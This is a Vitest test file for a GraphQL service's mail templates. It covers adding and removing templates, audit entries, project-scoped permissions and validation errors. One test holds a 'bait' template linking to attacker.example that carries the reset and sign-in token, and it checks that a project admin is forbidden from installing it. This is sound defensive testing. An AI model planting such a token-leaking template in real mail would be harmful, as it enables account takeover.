import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestApp, type TestApp } from '../testkit/app.js'
import { addProjectMember, configureTenant, createProject, projectAdmin, signUpPerson, sql } from '../testkit/fixtures.js'
import { entriesSince, expectNoEffect, logSize } from '../testkit/expectations.js'

let app: TestApp
beforeAll(async () => {
  app = await startTestApp()
  await createProject(app, { slug: 'news' })
})
afterAll(() => app?.stop())

const ADD = `mutation ($template: MailTemplate!) { addMailTemplate(template: $template) { ok error { code developerMessage } } }`
const REMOVE = `mutation ($id: MailTemplateIdentifier!) { removeMailTemplate(templateIdentifier: $id) { ok error { code } } }`
const LIST = '{ mailTemplates { projectSlug type variant subject content useLayout replyTo } }'

describe('mail templates', () => {
  it('adds, replaces and removes templates, each with one mail_template_change entry', async () => {
    const mark = await logSize(app)
    const global = { type: 'EXISTING_USER_INVITED', subject: 'Welcome back', content: 'Hi {{email}}' }
    const local = { projectSlug: 'news', type: 'NEW_USER_INVITED', variant: 'cs', subject: 'Vítejte', content: 'Token {{token}}', replyTo: 'desk@example.test' }
    for (const template of [global, { ...global, subject: 'Welcome back!' }, local]) {
      expect((await app.gql(ADD, { variables: { template }, token: app.rootToken })).data.addMailTemplate).toEqual({ ok: true, error: null })
    }
    const listed = await app.gql(LIST, { token: app.rootToken })
    expect(listed.data.mailTemplates).toEqual([
      { projectSlug: null, type: 'EXISTING_USER_INVITED', variant: null, subject: 'Welcome back!', content: 'Hi {{email}}', useLayout: true, replyTo: null },
      { ...local, useLayout: true },
    ])
    const removed = await app.gql(REMOVE, { variables: { id: { projectSlug: 'news', type: 'NEW_USER_INVITED', variant: 'cs' } }, token: app.rootToken })
    expect(removed.data.removeMailTemplate.ok).toBe(true)
    const entries = await entriesSince(app, mark)
    expect(entries.map((entry) => [entry.type, entry.eventData])).toEqual([
      ['mail_template_change', { action: 'add', type: 'EXISTING_USER_INVITED', projectSlug: null, variant: null }],
      ['mail_template_change', { action: 'add', type: 'EXISTING_USER_INVITED', projectSlug: null, variant: null }],
      ['mail_template_change', { action: 'add', type: 'NEW_USER_INVITED', projectSlug: 'news', variant: 'cs' }],
      ['mail_template_change', { action: 'remove', type: 'NEW_USER_INVITED', projectSlug: 'news', variant: 'cs' }],
    ])
    const [count] = await sql<{ count: number }>(app, "SELECT count(*)::int AS count FROM mail_template WHERE mail_type = 'EXISTING_USER_INVITED'")
    expect(count!.count).toBe(1)
    // The same template again, even several at once, is no change and no entry.
    await expectNoEffect(app, async () => {
      const same = { ...global, subject: 'Welcome back!' }
      const answers = await Promise.all([1, 2, 3].map(() => app.gql(ADD, { variables: { template: same }, token: app.rootToken })))
      expect(answers.map((answer) => answer.data.addMailTemplate)).toEqual([1, 2, 3].map(() => ({ ok: true, error: null })))
    })
  })

  it("keeps a project's reset and sign-in templates from its admins (a project admin can make anyone a member, and the mail carries a token)", async () => {
    const admin = await projectAdmin(app, 'news')
    const bait = 'https://attacker.example/steal?t={{token}}&r={{requestId}}&c={{code}}&u={{url}}'
    await expectNoEffect(app, async () => {
      for (const type of ['RESET_PASSWORD_REQUEST', 'PASSWORDLESS_SIGN_IN']) {
        const added = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type, subject: 'Security notice', content: bait } }, token: admin.token })
        expect(added.errors?.[0]?.extensions?.code, type).toBe('FORBIDDEN')
        const removed = await app.gql('mutation ($id: MailTemplateIdentifier!) { removeMailTemplate(templateIdentifier: $id) { ok } }', {
          variables: { id: { projectSlug: 'news', type } },
          token: admin.token,
        })
        expect(removed.errors?.[0]?.extensions?.code, type).toBe('FORBIDDEN')
      }
    })
    // Other project mails stay theirs.
    const invite = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type: 'EXISTING_USER_INVITED', subject: 'Welcome', content: 'Hi' } }, token: admin.token })
    expect(invite.data.addMailTemplate).toEqual({ ok: true, error: null })
  })

  it("renders a reset or sign-in mail with a project's template only for the project's members, and records that it did (metadata.mailProject)", async () => {
    await configureTenant(app, { passwordless: { enabled: 'always' } })
    for (const type of ['RESET_PASSWORD_REQUEST', 'PASSWORDLESS_SIGN_IN']) {
      const content = 'Your token: {{token}} {{requestId}}'
      const added = await app.gql(ADD, { variables: { template: { projectSlug: 'news', type, subject: 'News sign-in', content, useLayout: false } }, token: app.rootToken })
      expect(added.data.addMailTemplate).toEqual({ ok: true, error: null })
    }
    const member = await signUpPerson(app)
    await addProjectMember(app, 'news', member.identityId, [{ role: 'editor', variables: [] }])
    const outsider = await signUpPerson(app)
    const subjects = async (email: string) => {
      for (const operation of ['createResetPasswordRequest', 'initSignInPasswordless']) {
        const response = await app.gql(`mutation ($email: String!) { ${operation}(email: $email, options: { mailProject: "news" }) { ok } }`, {
          variables: { email },
          token: app.loginToken,
        })
        expect(response.data[operation].ok, operation).toBe(true)
      }
      // Mail is sent in the background.
      for (let attempt = 0; attempt < 50; attempt++) {
        const mails = await sql<{ subject: string }>(app, 'SELECT subject FROM mail_outbox WHERE recipient = $1 ORDER BY subject', [email])
        if (mails.length === 2) return mails.map((mail) => mail.subject)
        await new Promise((resolve) => setTimeout(resolve, 100))
      }
      throw new Error(`no mail to ${email}`)
    }
    const recorded = (email: string) =>
      sql<{ type: string; mailProject: string | null }>(
        app,
        `SELECT type, metadata ->> 'mailProject' AS "mailProject" FROM person_auth_log
          WHERE person_input_identifier = $1 AND type IN ('password_reset_init', 'passwordless_login_init')`,
        [email],
      ).then((rows) => rows.sort((a, b) => (a.type < b.type ? -1 : 1)))
    expect(await subjects(member.email)).toEqual(['News sign-in', 'News sign-in'])
    expect(await recorded(member.email)).toEqual([
      { type: 'password_reset_init', mailProject: 'news' },
      { type: 'passwordless_login_init', mailProject: 'news' },
    ])
    const outsiderSubjects = await subjects(outsider.email)
    expect(outsiderSubjects).not.toContain('News sign-in')
    expect(outsiderSubjects).toHaveLength(2)
    expect((await recorded(outsider.email)).map((row) => row.mailProject)).toEqual([null, null])
  })

  it("shows a project admin only its project's templates", async () => {
    await app.gql(ADD, { variables: { template: { projectSlug: 'news', type: 'FORCED_SIGN_OUT', subject: 's', content: 'c' } }, token: app.rootToken })
    const admin = await projectAdmin(app, 'news')
    const listed = await app.gql(LIST, { token: admin.token })
    expect([...new Set(listed.data.mailTemplates.map((template: { projectSlug: string }) => template.projectSlug))]).toEqual(['news'])
  })

  it('refuses unknown projects, missing variables, bad reply-to and unknown templates without any effect', async () => {
    await expectNoEffect(app, async () => {
      const cases: [Record<string, unknown>, string][] = [
        [{ projectSlug: 'nope', type: 'FORCED_SIGN_OUT', subject: 's', content: 'c' }, 'PROJECT_NOT_FOUND'],
        [{ type: 'RESET_PASSWORD_REQUEST', subject: 's', content: 'no token here' }, 'MISSING_VARIABLE'],
        [{ type: 'RESET_PASSWORD_REQUEST', subject: 's', content: 'broken {{#token}}' }, 'MISSING_VARIABLE'],
        // The subject is rendered as a template too.
        [{ type: 'RESET_PASSWORD_REQUEST', subject: '{{#x}}', content: '{{token}}' }, 'MISSING_VARIABLE'],
        [{ type: 'FORCED_SIGN_OUT', subject: 's', content: 'c', replyTo: 'not-an-email' }, 'INVALID_REPLY_EMAIL_FORMAT'],
      ]
      for (const [template, code] of cases) {
        expect((await app.gql(ADD, { variables: { template }, token: app.rootToken })).data.addMailTemplate.error.code).toBe(code)
      }
      const unknownType = await app.gql(ADD, { variables: { template: { type: 'NOPE', subject: 's', content: 'c' } }, token: app.rootToken })
      expect(unknownType.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT')
      for (const [id, code] of [
        [{ type: 'EMAIL_OTP' }, 'TEMPLATE_NOT_FOUND'],
        [{ projectSlug: 'nope', type: 'EMAIL_OTP' }, 'PROJECT_NOT_FOUND'],
      ] as const) {
        expect((await app.gql(REMOVE, { variables: { id }, token: app.rootToken })).data.removeMailTemplate.error.code).toBe(code)
      }
    })
  })
})
